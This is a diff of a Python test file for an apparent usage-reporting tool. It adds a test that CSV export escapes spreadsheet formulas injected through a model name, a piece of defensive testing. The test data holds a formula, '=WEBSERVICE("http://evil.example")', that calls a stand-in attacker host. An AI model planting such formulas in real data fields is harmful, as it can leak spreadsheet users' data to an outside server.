@@ -35,17 +35,18 @@ def database(folder: Path) -> Iterator[Database]:
     database.close()
 
 
+def turn(number: int, user: str, model: str, usage: Usage | None, cost: int | None, days: int) -> Turn:
+    """Return a turn that started some days after the first one."""
+    started_at = START + days * 86_400
+    return Turn(
+        f"turn-{number}", started_at, user, DEFAULT_CREDENTIAL, model, "default", 0, START - 3600, usage, cost,
+        "sse", "completed", 200, 1, 1,
+    )  # fmt: skip
+
+
 @pytest.fixture
 def used(database: Database) -> None:
     """Record three turns: two by alice, one of them unpriced, and one by bob a day later without token counts."""
-
-    def turn(number: int, user: str, model: str, usage: Usage | None, cost: int | None, days: int) -> Turn:
-        started_at = START + days * 86_400
-        return Turn(
-            f"turn-{number}", started_at, user, DEFAULT_CREDENTIAL, model, "default", 0, START - 3600, usage, cost,
-            "sse", "completed", 200, 1, 1,
-        )  # fmt: skip
-
     turns = [
         turn(1, "alice", "gpt-5.5", Usage(1_000, 400, 50, 20), 12_345_678, 0),
         turn(2, "alice", "new-model", Usage(10, 0, 5), None, 0),
@@ -91,6 +92,15 @@ def test_usage_groups(run: Run, run_json: RunJson, arguments: list[str], groups:
     assert [line[: len(names)] for line in table[1:]] == groups
     for row, line in zip(rows, table[1:], strict=True):
         assert dict(zip(table[0], line, strict=True))["cost_usd"] == f"{row['cost_usd']:.6f}"
+
+
+def test_usage_csv_without_formulas(run: Run, database: Database) -> None:
+    """The name of a model, which a client chose, is no formula for a spreadsheet."""
+    formula = '=WEBSERVICE("http://evil.example")'
+    with database.write_directly() as direct:
+        queries.store_records(direct, [record_of(turn(1, "alice", formula, Usage(1, 0, 1), 1, 0))])
+    rows = list(csv.reader(run("usage", "--by", "model", "--csv").stdout.splitlines()))
+    assert [row[0] for row in rows] == ["model", f"'{formula}"]
 
 
 @pytest.mark.usefixtures("used")
